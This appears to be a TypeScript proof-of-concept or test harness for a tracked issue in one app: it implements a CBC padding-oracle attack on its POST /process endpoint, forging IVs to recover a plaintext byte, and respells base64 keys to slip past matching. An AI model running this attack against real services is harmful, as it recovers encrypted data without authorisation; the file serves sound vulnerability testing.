/**
 * The CBC padding-oracle attack on `POST /process` (issue 8, item 8), as someone who captured one request
 * of the app would run it: forge IV' ‖ C1 with one byte of IV' guessed, each probe under a fresh client_id
 * (so no lookup record answers it), and read the answer. Good padding answers something other than
 * AES_DECRYPTION_FAILED, which gives away that byte of the plaintext.
 */
import { randomUUID } from 'node:crypto';
import { type AppJob, sha256Hex } from './android-client';

/** What the attacker gets back from one probe: the `error_detail`, or the status when there is none. */
export type ProbeAnswer = (body: Record<string, unknown>) => Promise<string>;

/** The body of one probe: the captured wrapped key, a forged envelope, a new client. */
export function probeBody(
  captured: AppJob,
  content: string,
  aesKey = captured.aesKey,
): Record<string, unknown> {
  return {
    client_id: randomUUID(),
    type: captured.type,
    SHA256: sha256Hex(content),
    has_content: true,
    content,
    aes_key: aesKey,
  };
}

/** IV' ‖ C1 where IV'[15] is chosen so that the plaintext's byte 15 equal to `guess` makes padding 0x01. */
export function forgedEnvelope(captured: AppJob, guess: number): string {
  const envelope = Buffer.from(captured.content, 'base64');
  const iv = Buffer.from(envelope.subarray(0, 16));
  iv[15] = (iv[15] ?? 0) ^ guess ^ 0x01;
  return Buffer.concat([iv, envelope.subarray(16, 32)]).toString('base64');
}

/**
 * Tries every value of the last byte of the first plaintext block, in order; the recovered byte, or
 * undefined when no probe ever answered differently from a padding failure.
 */
export async function attackLastByteOfFirstBlock(
  captured: AppJob,
  send: ProbeAnswer,
): Promise<{ recovered?: number; probes: number }> {
  for (let guess = 0; guess < 256; guess++) {
    const answer = await send(probeBody(captured, forgedEnvelope(captured, guess)));
    if (answer !== 'AES_DECRYPTION_FAILED') return { recovered: guess, probes: guess + 1 };
  }
  return { probes: 256 };
}

/** The same wrapped key spelled differently: base64's unused low bits of the last character flipped. */
export function respelledKey(aesKey: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const padding = aesKey.match(/=*$/)?.[0].length ?? 0;
  if (padding === 0) throw new Error('a 256-byte RSA block always ends in padding');
  const at = aesKey.length - padding - 1;
  const value = alphabet.indexOf(aesKey.charAt(at));
  // With "==" the last character carries 2 bits and 4 unused ones; with "=" 4 bits and 2 unused.
  const respelled = alphabet.charAt(value ^ 1);
  return aesKey.slice(0, at) + respelled + aesKey.slice(at + 1);
}
